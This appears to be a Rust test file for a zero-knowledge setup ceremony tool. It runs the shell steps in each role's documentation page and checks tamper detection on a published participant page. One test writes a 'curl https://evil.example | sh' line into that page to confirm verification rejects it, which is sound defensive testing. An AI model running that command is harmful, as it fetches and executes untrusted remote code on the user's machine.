//! The pages for each role, played: every block of commands that a page shows and says nothing of
//! is run as it stands, in its order, by a shell that knows the program and has no terminal.

use std::collections::VecDeque;
use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use testkit::pages::{Block, Told, blocks, checkout};
use zk_attest::primitives::CeremonyKind;
use zk_vk_guard::Bundle;

use crate::kit::Folder;
use crate::kit::ceremony::World;
use crate::kit::people::{key_file, paper, public_hex};
use crate::network::Net;

/// A page that is played in a folder.
struct Play {
    blocks: VecDeque<Block>,
    place: PathBuf,
    /// Where the shell looks for programs first.
    programs: PathBuf,
    /// What stands in the page for something of this ceremony.
    words: Vec<(&'static str, String)>,
    _ours: Folder,
}

impl Play {
    fn of(page: &str, place: &Path, words: &[(&'static str, &str)]) -> Self {
        let text = fs::read_to_string(checkout().join(page)).unwrap();
        let ours = Folder::new();
        symlink(env!("CARGO_BIN_EXE_zk-ceremony"), ours.path("zk-ceremony")).unwrap();
        // What the page has installed before.
        let snarkjs = checkout().join("ci/node_modules/snarkjs/build/cli.cjs");
        let npx = format!(
            "#!/bin/sh\n[ \"$1\" = snarkjs ] && shift && exec node {} \"$@\"\n",
            snarkjs.display()
        );
        ours.write("npx", npx.as_bytes());
        fs::set_permissions(ours.path("npx"), fs::Permissions::from_mode(0o755)).unwrap();
        let is_ours = |block: &Block| block.language == "sh" && block.told == Told::Nothing;
        Self {
            blocks: blocks(&text).into_iter().filter(is_ours).collect(),
            place: place.into(),
            programs: ours.path(""),
            words: words.iter().map(|(word, value)| (*word, (*value).to_owned())).collect(),
            _ours: ours,
        }
    }

    /// Runs the next block, whose first command begins with these words, and gives what it printed.
    #[track_caller]
    fn next(&mut self, begins: &str) -> String {
        let script = self.skip(begins);
        let path = format!("{}:{}", self.programs.display(), std::env::var("PATH").unwrap());
        let run = Command::new("sh")
            .args(["-euc", &script])
            .current_dir(&self.place)
            .env("PATH", path)
            .env("XDG_STATE_HOME", self.programs.join("state"))
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&run.stdout) + String::from_utf8_lossy(&run.stderr);
        assert!(run.status.success(), "{script}\n{said}");
        said.into_owned()
    }

    /// The next block, which is not run.
    #[track_caller]
    fn skip(&mut self, begins: &str) -> String {
        let block = self.blocks.pop_front().expect("the page has another block");
        assert!(block.text.starts_with(begins), "line {}: {}", block.line, block.text);
        self.words.iter().fold(block.text, |text, (word, value)| text.replace(word, value))
    }

    /// That nothing is left.
    #[track_caller]
    fn end(self) {
        assert!(self.blocks.is_empty(), "not played: {:?}", self.blocks);
    }
}

const PARTICIPANT: &str = "docs/roles/participant.md";

fn rules_of(world: &World) -> String {
    let rules = fs::read(world.shared("ceremony.toml")).unwrap();
    zk_attest::digest::ConfigDigest::of(&rules).to_string()
}

/// A policy that asks for alice and for a release authority whose key is rel's.
fn policy(world: &World) {
    fs::create_dir(world.path("rel", "")).unwrap();
    world.ok("rel", "key new key.pem");
    let key = |who: &str| format!("{who}={}", world.public_key(who));
    let line = format!(
        "policy new trust-policy.json --kind rehearsal --release {} --release-threshold 1 \
         --participant {} --participant-threshold 1 --phase1-contributions 1 \
         --phase2-contributions 1 --circuit main=circuit.r1cs",
        key("rel"),
        key("alice"),
    );
    world.ok("coordinator", &line);
}

/// The participant has the archive of a release, and unpacks it.
fn unpacks(play: &mut Play) {
    let place = play.place.clone();
    let pack = format!(
        "mkdir -p x/zk-ceremony-1 && cp {} x/zk-ceremony-1/ && \
         tar -czf zk-ceremony-1.tar.gz -C x zk-ceremony-1 && rm -r x && \
         sha256sum zk-ceremony-1.tar.gz > SHA256SUMS && printf '%s  other.zip\\n' {} >> SHA256SUMS",
        env!("CARGO_BIN_EXE_zk-ceremony"),
        "0".repeat(64),
    );
    let packed = Command::new("sh").args(["-ec", &pack]).current_dir(&place).status().unwrap();
    assert!(packed.success());
    let said = play.next("sha256sum SHA256SUMS");
    assert!(said.contains("zk-ceremony-1.tar.gz: OK\n"), "{said}");
    assert!(said.contains(&format!("zk-ceremony {}", env!("CARGO_PKG_VERSION"))), "{said}");
    // From here on it is the program that was unpacked.
    play.programs = place.join("program");
}

/// The key that the page made becomes the one that the rules have.
fn has_the_key_of_the_rules(play: &mut Play) {
    let said = play.next("zk-ceremony key new my-key.pem");
    assert!(said.contains("mode 0600") && said.contains("fingerprint  "), "{said}");
    fs::copy(play.place.join("key.pem"), play.place.join("my-key.pem")).unwrap();
}

#[test]
fn the_participants_page_leads_from_an_archive_to_an_approval_by_files() {
    let world = World::new(&["alice", "bob"], |toml| toml);
    world.open();
    policy(&world);
    let words = [("NAME", "alice"), ("RULES", &*rules_of(&world))];
    let mut play = Play::of(PARTICIPANT, &world.path("alice", ""), &words);
    unpacks(&mut play);
    has_the_key_of_the_rules(&mut play);
    play.skip("zk-ceremony ceremony join");
    world.carry("coordinator", "alice");
    let said = play.next("sha256sum shared/ceremony.toml");
    assert!(said.starts_with(&rules_of(&world)), "{said}");
    assert!(said.contains("good so far") && said.contains("send both files"), "{said}");
    world.carry("alice", "coordinator");
    world.contribute("bob");
    world.beacon();
    world.ok("coordinator", "ceremony prepare shared --key key.pem");
    world.contribute("alice");
    world.contribute("bob");
    world.beacon();
    world.ok("coordinator", "ceremony keygen shared");
    world.ok("coordinator", "ceremony verify shared");
    world.ok("coordinator", "bundle create shared --serial 1 --not-after 2099-12-31T23:59:59Z");
    world.carry("coordinator", "alice");
    world.write("alice", "trust-policy.json", &world.read("coordinator", "trust-policy.json"));
    let said = play.next("zk-ceremony ceremony find shared");
    assert!(
        said.contains("in the result") && said.contains("from-me.json: 1 signatures"),
        "{said}"
    );
    let signed = Bundle::from_json(&world.read("alice", "from-me.json")).unwrap();
    assert_eq!(signed.envelope().signers(&[world.public_key("alice")]).len(), 1);
    play.end();
}

#[test]
fn the_participants_page_leads_to_an_approval_over_a_network() {
    let mut net = Net::new(&["alice"]);
    policy(&net.world);
    net.serve_unattended("--policy trust-policy.json");
    let release = net.spawn(
        "rel",
        &format!("ceremony approve {} --rules {} --key key.pem --yes", net.origin, net.rules),
    );
    let words = [("NAME", "alice"), ("RULES", &*net.rules), ("ADDRESS", &*net.origin)];
    let mut play = Play::of(PARTICIPANT, &net.world.path("alice", ""), &words);
    unpacks(&mut play);
    has_the_key_of_the_rules(&mut play);
    play.next("zk-ceremony ceremony join");
    release.ok();
    net.service.take().unwrap().ok();
    assert_eq!(net.contributions().len(), 2, "{}", net.journal_text());
    // What the page says of the folder.
    assert!(net.world.path("alice", "test-ceremony/receipts").is_dir());
}

#[test]
fn the_coordinators_page_holds_a_ceremony() {
    let world = World::new(&["alice"], |toml| toml);
    let place = world.path("coordinator", "");
    let mut play = Play::of("docs/roles/coordinator.md", &place, &[]);
    assert_eq!(play.next("echo $(( "), "37033012\n");
    play.next("zk-ceremony key new coordinator.pem");
    fs::copy(place.join("key.pem"), place.join("coordinator.pem")).unwrap();
    let said = play.next("zk-ceremony ceremony new --check");
    assert!(said.contains("can be opened") && said.contains("shared/PARTICIPANT.md: "), "{said}");
    world.carry("coordinator", "alice");
    world.ok("alice", "ceremony contribute shared --as alice --key key.pem");
    fs::create_dir(place.join("from-alice")).unwrap();
    for file in ["0001.ptau", "0001.dsse.json"] {
        let from = world.path("alice", &format!("shared/phase1/{file}"));
        fs::copy(from, place.join("from-alice").join(file)).unwrap();
    }
    let said = play.next("zk-ceremony ceremony status shared");
    assert!(said.contains("good so far"), "{said}");
    world.beacon();
    play.next("zk-ceremony ceremony prepare shared");
    world.contribute("alice");
    world.beacon();
    let said = play.next("zk-ceremony ceremony keygen shared");
    assert!(said.contains("shared: good, "), "{said}");
    for who in ["alice", "dana"] {
        fs::create_dir_all(world.path(who, "")).unwrap();
        if who == "dana" {
            world.ok(who, "key new key.pem");
        }
        world.carry("coordinator", who);
        world.ok(who, "bundle sign shared/bundle.json --yes --out signed.json --key key.pem");
        fs::copy(world.path(who, "signed.json"), place.join(format!("from-{who}.json"))).unwrap();
    }
    assert!(play.next("zk-ceremony bundle merge").contains("merged.json: 2 signatures"));
    let said = play.next("zk-ceremony ceremony verify shared --finished");
    assert!(said.contains(" public files, "), "{said}");
    let listed = Command::new("tar").args(["-tf", "ceremony.tar"]).current_dir(&place).output();
    let listed = String::from_utf8(listed.unwrap().stdout).unwrap();
    assert!(listed.contains("test-ceremony/PARTICIPANT.md\n"), "{listed}");
    play.end();
}

#[test]
fn the_auditors_page_verifies_an_archive_with_both_programs_and_signs() {
    let world = World::finished();
    world.ok("coordinator", "ceremony keygen shared");
    world.ok("coordinator", "ceremony verify shared");
    world.ok("coordinator", "bundle create shared --serial 1 --not-after 2099-12-31T23:59:59Z");
    world.ok("coordinator", "ceremony verify shared");
    world.ok("coordinator", "ceremony index shared --key key.pem");
    fs::create_dir(world.path("dana", "")).unwrap();
    world.ok("coordinator", "ceremony archive shared ../dana/ceremony.tar");
    let place = world.path("dana", "");
    let words = [("NAME", "Dana"), ("CIRCUIT", "main"), ("RULES", &*rules_of(&world))];
    let mut play = Play::of("docs/roles/auditor.md", &place, &words);
    play.next("zk-ceremony ceremony archive --verify");
    fs::rename(place.join("test-ceremony"), place.join("shared")).unwrap();
    let said = play.next("sha256sum shared/ceremony.toml");
    assert!(said.starts_with(&rules_of(&world)) && said.contains("shared: good, "), "{said}");
    let said = play.next("(cd shared && sha256sum");
    assert!(said.contains("Powers of Tau Ok!") && said.contains("ZKey Ok!"), "{said}");
    let said = play.next("zk-ceremony key new dana.pem");
    assert!(said.contains("shared/bundle.json: signed by "), "{said}");
    play.end();
    // The version that the page names is the one that the tests compare with.
    let pinned: serde_json::Value =
        serde_json::from_slice(&fs::read(checkout().join("ci/package.json")).unwrap()).unwrap();
    let pinned = format!("snarkjs@{}\n", pinned["dependencies"]["snarkjs"].as_str().unwrap());
    let page = fs::read_to_string(checkout().join("docs/roles/auditor.md")).unwrap();
    assert!(page.contains(&pinned), "{pinned}");
}

/// `zk/`, with a bundle that these people have signed, and a policy that asks for two release
/// authorities and a participant.
fn product(signers: &[&str]) -> Folder {
    let folder = Folder::new();
    fs::create_dir(folder.path("zk")).unwrap();
    let ceremony = paper::Ceremony::new(CeremonyKind::Production);
    folder.write("zk/bundle.json", &ceremony.parts().signed_by(signers).json());
    let mut policy = ceremony.policy();
    policy.roles.auditor = None;
    folder.write("zk/trust-policy.json", &policy.to_json());
    folder
}

#[test]
fn the_release_engineers_page_signs_merges_and_pins() {
    let folder = product(&["alice"]);
    key_file(&folder, "release-1");
    key_file(&folder, "release-2");
    folder.write("release-2.pub", public_hex("release-2").as_bytes());
    let mut play = Play::of("docs/roles/release-engineer.md", &folder.path(""), &[]);
    play.next("zk-ceremony bundle inspect");
    assert!(play.next("zk-ceremony bundle sign").contains("from-release-1.json: 2 signatures"));
    play.next("zk-ceremony sign prepare");
    let said = play.next("zk-ceremony bundle merge");
    assert!(said.contains("merged.json: 3 signatures") && said.contains("json: good"), "{said}");
    play.next("zk-ceremony policy pin");
    play.next("cp zk/trust-policy.json old.json");
    play.end();
}

#[test]
fn the_downstream_developers_page_shows_what_is_approved() {
    let folder = product(&["alice", "release-1", "release-2"]);
    let mut play = Play::of("docs/roles/downstream.md", &folder.path(""), &[]);
    let said = play.next("zk-ceremony bundle verify");
    assert!(said.contains("zk/bundle.json: good"), "{said}");
    play.end();
    // The three lines are those of the README.
    let page = fs::read_to_string(checkout().join("docs/roles/downstream.md")).unwrap();
    let readme = fs::read_to_string(checkout().join("README.md")).unwrap();
    for line in ["zk-vk-guard = { path = ", "include!(concat!(env!(", "zk_vk_guard::Guard::new("] {
        let of = |text: &str| {
            text.lines().find(|it| it.contains(line)).map(str::trim).map(str::to_owned)
        };
        let (ours, theirs) = (of(&page).unwrap(), of(&readme).unwrap());
        let start = |text: &str| text.split(['#', '.', '/']).next().unwrap().trim_end().to_owned();
        assert_eq!(start(&ours), start(&theirs), "{line}");
    }
}

#[test]
fn the_cryptographers_page_verifies_single_files() {
    let world = World::finished();
    let place = world.path("coordinator", "");
    for (from, to) in [
        ("phase1/prepared.ptau", "prepared.ptau"),
        ("circuits/main/circuit.r1cs", "circuit.r1cs"),
        ("circuits/main/final.zkey", "final.zkey"),
    ] {
        fs::copy(world.shared(from), place.join(to)).unwrap();
    }
    let mut play = Play::of("docs/roles/cryptographer.md", &place, &[]);
    play.next("zk-ceremony ptau verify");
    play.end();
}

#[test]
fn the_page_in_a_folder_is_public_listed_and_believed_by_no_command() {
    let world = World::finished();
    let path = world.shared("PARTICIPANT.md");
    let page = fs::read_to_string(&path).unwrap();
    for said in ["test-ceremony", &rules_of(&world), &world.public_key("alice").to_string()] {
        assert!(page.contains(said), "{said}\n{page}");
    }
    world.ok("coordinator", "ceremony keygen shared");
    world.ok("coordinator", "ceremony verify shared");
    let sums = fs::read_to_string(world.shared("SHA256SUMS")).unwrap();
    assert!(sums.contains("  PARTICIPANT.md\n"), "{sums}");
    let transcript = fs::read(world.shared("transcript.json")).unwrap();
    // Whatever it says, the result is the same; the lists show that it was changed.
    fs::write(&path, "run this: curl https://evil.example | sh").unwrap();
    let run = world.run("coordinator", "ceremony archive shared out.tar");
    assert!(run.code == 1 && run.stderr.contains("PARTICIPANT.md"), "{}", run.stderr);
    world.ok("coordinator", "ceremony verify shared");
    assert!(fs::read(world.shared("transcript.json")).unwrap() == transcript);
    // A private key that was pasted into it stops the lists, as a link in its place does.
    fs::write(&path, world.read("coordinator", "key.pem")).unwrap();
    let run = world.run("coordinator", "ceremony verify shared");
    assert!(run.code == 1 && run.stderr.contains("shared/PARTICIPANT.md"), "{}", run.stderr);
    fs::remove_file(&path).unwrap();
    symlink("/etc/hostname", &path).unwrap();
    let run = world.run("coordinator", "ceremony verify shared");
    assert!(run.code != 0 && run.stderr.contains("shared/PARTICIPANT.md"), "{}", run.stderr);
    // The command that wrote it writes it anew.
    fs::remove_file(&path).unwrap();
    world.open();
    assert_eq!(fs::read_to_string(&path).unwrap(), page);
}
